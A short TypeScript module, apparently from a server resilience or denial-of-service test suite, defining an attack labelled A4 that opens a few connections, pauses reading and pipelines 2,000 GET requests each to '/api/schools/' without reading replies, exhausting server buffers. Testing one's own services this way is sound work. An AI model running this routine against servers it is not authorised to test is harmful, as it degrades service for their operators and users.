import { requestHead, openConnections, type Attack, type Target } from './attack.ts'

/** Enough requests to fill the buffers of a connection with responses. */
const requestCount = 2_000

/** A4: sends thousands of requests on each of a few connections and reads no response. */
export function takeNoAnswers(target: Target, { connections = 2, path = '/api/schools/' } = {}): Attack {
  return openConnections(target, connections, (socket) => {
    socket.pause()
    socket.write(requestHead(target, `GET ${path}`).repeat(requestCount))
  })
}
